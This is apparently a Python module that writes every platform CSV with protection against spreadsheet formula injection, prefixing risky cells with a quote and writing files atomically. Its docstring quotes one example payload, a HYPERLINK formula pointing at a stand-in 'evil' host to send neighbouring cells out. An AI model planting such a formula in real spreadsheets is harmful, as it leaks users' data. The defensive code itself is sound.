"""CSV that spreadsheets cannot run: every CSV the platform writes goes through here.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (`=HYPERLINK("https://evil/?"&A2, "click")` sends neighbouring cells away). As OWASP's "CSV
Injection" page recommends, such text cells are prefixed with a single quote, which the spreadsheet shows as
text; the csv module quotes any cell holding a separator, quote or line break (embedded quotes doubled), so a
cell can never spill into the next one. Fullwidth look-alikes (＝ ＋ － ＠), which some spreadsheets also accept,
are treated the same. Numbers (int, float) are written as numbers, untouched: a negative score stays a number.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralise(value: Any) -> Any:
    """A cell value safe to open in a spreadsheet: text that could start a formula gets a leading `'`."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """The CSV document (header, then one line per row; keys not in `columns` are ignored)."""
    buffer = io.StringIO()
    _write(buffer, columns, rows)
    return buffer.getvalue()


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> Path:
    """Write the CSV to `path` atomically: a crash mid-write never leaves half a file (nor a temporary one)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.tmp")
    try:
        with tmp.open("w", newline="", encoding="utf-8") as f:
            _write(f, columns, rows)
        os.replace(tmp, path)
    finally:
        tmp.unlink(missing_ok=True)
    return path


def _write(stream: Any, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    writer = csv.writer(stream)
    writer.writerow([neutralise(c) for c in columns])
    for row in rows:
        writer.writerow([neutralise(row.get(c, "")) for c in columns])
